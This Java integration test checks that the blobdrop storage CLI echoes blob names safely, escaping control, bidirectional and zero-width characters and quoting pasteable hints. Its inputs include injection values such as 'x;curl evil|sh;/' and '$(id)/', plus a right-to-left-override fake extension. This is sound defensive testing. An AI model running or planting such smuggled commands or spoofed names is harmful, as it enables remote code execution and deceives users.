package dev.blobdrop.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.blobdrop.core.problem.Visible;
import dev.blobdrop.sandbox.Sandbox;
import dev.blobdrop.sandbox.SharedSandbox;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever a blob is called, every command names it as it is called: JSON gives back the very
/// name, and no terminal obeys what is printed.
@Timeout(120)
class NamesAreDataIT {
    private static final List<String> NAMES = List.of(
            "SurveyJanuary.csv",
            "sig=A/part-000.parquet",
            "Bearer Certificate 2024.pdf",
            "logs/password=reset/x",
            "access_token=abc&refresh_token=def.txt",
            "a\u202Egpj.exe",
            "zero\u200Bwidth.txt",
            "csi\u009B31m.txt",
            "line\u2028end.txt",
            "\uD83D\uDC69\u200D\uD83D\uDCBB \u2764\uFE0F.txt",
            "gr\u00FC\u00DFe e\u0301 \u65E5\u672C.txt");

    private final Sandbox azure = SharedSandbox.get();

    @TempDir
    Path folder;

    @BeforeEach
    void fill() {
        azure.reset();
        NAMES.forEach(name -> azure.blobs().put(azure.container(), name, new byte[3]));
    }

    @AfterEach
    void reset() {
        azure.reset();
    }

    private CommandRun run(String... arguments) {
        return Blobdrop.run(azure.podEnvironment(), arguments);
    }

    @Test
    void listingGivesEveryNameAsItIs() {
        CommandRun json = run("ls", azure.container(), "--recursive", "--output", "json");
        assertThat(json.events("blob")).extracting(event -> event.get("name")).containsAll(NAMES);
        assertThat(json.out().replace("\n", "").codePoints()).noneMatch(Visible::isHidden);

        CommandRun text = run("ls", azure.container(), "--recursive");
        NAMES.forEach(name -> assertThat(text.out()).contains("  " + Visible.of(name) + "\n"));
        assertThat(text.out()).contains("SurveyJanuary.csv", "sig=A/part-000.parquet");
        assertThat(text.out()).doesNotContain("[hidden]", "\u202E", "\u009B", "\u200B");
    }

    @Test
    void everyCommandNamesTheBlobThatItIsAbout() throws IOException {
        // The service takes no control character in the address of a blob.
        List<String> names =
                NAMES.stream().filter(name -> !name.contains("\u009B")).toList();
        azure.blobs().delete(azure.container(), "csi\u009B31m.txt");
        for (String name : names) {
            assertThat(run("stat", name, "--output", "json").events("properties"))
                    .singleElement()
                    .satisfies(event -> assertThat(event).containsEntry("blob", name));
            CommandRun stat = run("stat", name);
            assertThat(stat.out()).contains("Blob                 " + Visible.of(name) + "\n");
        }
        List<String> words = new ArrayList<>(List.of("get"));
        words.addAll(names);
        words.addAll(List.of("--to", folder.toString(), "--output", "json"));
        CommandRun got = run(words.toArray(String[]::new));
        assertThat(got.exit()).as(got.err()).isZero();
        assertThat(got.events("downloaded"))
                .extracting(event -> event.get("blob"))
                .containsExactlyInAnyOrderElementsOf(names);
        words = new ArrayList<>(List.of("rm", "--output", "json"));
        words.addAll(names);
        CommandRun gone = run(words.toArray(String[]::new));
        assertThat(gone.events("deleted"))
                .extracting(event -> event.get("blob"))
                .containsExactlyInAnyOrderElementsOf(names);
        assertThat(azure.blobs().list(azure.container())).isEmpty();
    }

    @Test
    void uploadsSummariesAndRemediesHoldTheNameToo() throws IOException {
        Path file = Files.writeString(folder.resolve("SurveyJanuary sig=A\u202Egpj.csv"), "x");
        Path summary = folder.resolve("summary.json");
        CommandRun run = run(
                "upload",
                file.toString(),
                "--to",
                "password=reset/",
                "--summary-file",
                summary.toString(),
                "--output",
                "json");
        assertThat(run.events("uploaded"))
                .singleElement()
                .satisfies(event -> assertThat(event)
                        .containsEntry("source", file.toString())
                        .containsEntry("blob", "password=reset/" + file.getFileName()));
        CommandRun again = run("upload", file.toString(), "--to", "password=reset/");
        assertThat(again.exit()).isEqualTo(15);
        assertThat(again.err()).contains("SurveyJanuary sig=A\\u202Egpj.csv");
        assertThat(again.out() + again.err()).doesNotContain("\u202E", "[hidden]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"x;curl evil|sh;/", "sig=A/", "-rf/", "a b'/", "$(id)/", "\u202Egpj/"})
    void hintsForAFolderCanBePasted(String name) {
        CommandRun run = run("cat", "--", name);
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).doesNotContain("[hidden]", "\u202E");
        String hint = run.err()
                .lines()
                .filter(line -> line.contains("blobdrop get"))
                .findFirst()
                .orElseThrow();
        assertThat(hint)
                .contains(dev.blobdrop.core.problem.OwnCall.of("get").on(name).line() + "   # downloads all of it");
    }

    @Test
    void missingNameIsSaidAsItWasTyped() {
        CommandRun run = run("rm", "sig=A/none\u200B.parquet", "--output", "json");
        assertThat(run.exit()).isEqualTo(14);
        Map<String, Object> failed = run.events("failed").getFirst();
        assertThat(failed).containsEntry("blob", "sig=A/none\u200B.parquet");
        assertThat(run.err()).contains("There is no blob 'sig=A/none\\u200B.parquet'");
    }
}
